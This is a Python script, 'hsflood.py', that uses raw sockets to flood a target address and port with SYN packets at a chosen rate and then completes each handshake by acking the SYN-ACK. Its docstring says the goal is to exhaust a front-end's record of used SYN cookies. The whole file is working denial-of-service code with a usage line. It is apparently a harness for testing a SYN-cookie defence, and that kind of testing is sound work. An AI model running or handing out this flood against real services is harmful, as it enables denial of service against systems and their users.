#!/usr/bin/env python3
"""Completes TCP handshakes with a VIP's SYN cookies from SRC, RATE a
second for SECONDS, and never sends a request: raw sockets, no state of
its own (the caller drops the kernel's resets for SRC).  An attacker with
one address of its own, filling the front-end's set of used cookies.

usage: hsflood.py SRC DST PORT RATE SECONDS
prints: "syns N handshakes M"
"""
import random, select, socket, struct, sys, time

from rawtcp import csum

src, dst, dport = sys.argv[1], sys.argv[2], int(sys.argv[3])
rate, secs = float(sys.argv[4]), float(sys.argv[5])
S, D = socket.inet_aton(src), socket.inet_aton(dst)
tx = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
rx = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
rx.setblocking(False)


def send(sport, seq, ack, flags, opts=b""):
    th = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xffffffff,
                     ack & 0xffffffff, (5 + len(opts) // 4) << 4, flags,
                     64240, 0, 0) + opts
    ph = S + D + struct.pack("!BBH", 0, 6, len(th))
    th = th[:16] + struct.pack("!H", csum(ph + th)) + th[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(th), 0, 0x4000, 64,
                     6, 0, S, D)
    tx.sendto(ip + th, (dst, 0))


t0 = time.time()
due = t0
syns = done = 0
while time.time() - t0 < secs:
    while due <= time.time():
        send(random.randint(1024, 65535), random.getrandbits(32), 0, 0x02,
             struct.pack("!BBH", 2, 4, 1460))
        syns += 1
        due += 1.0 / rate
    select.select([rx], [], [], 0.002)
    while True:
        try:
            p = rx.recv(2048)
        except BlockingIOError:
            break
        ihl = (p[0] & 15) * 4
        if p[12:16] != D or p[16:20] != S or len(p) < ihl + 14:
            continue
        sp, dp, seq, ack, _, fl = struct.unpack("!HHIIBB", p[ihl:ihl + 14])
        if sp == dport and fl & 0x12 == 0x12:
            send(dp, ack, seq + 1, 0x10)
            done += 1
print("syns %d handshakes %d" % (syns, done))
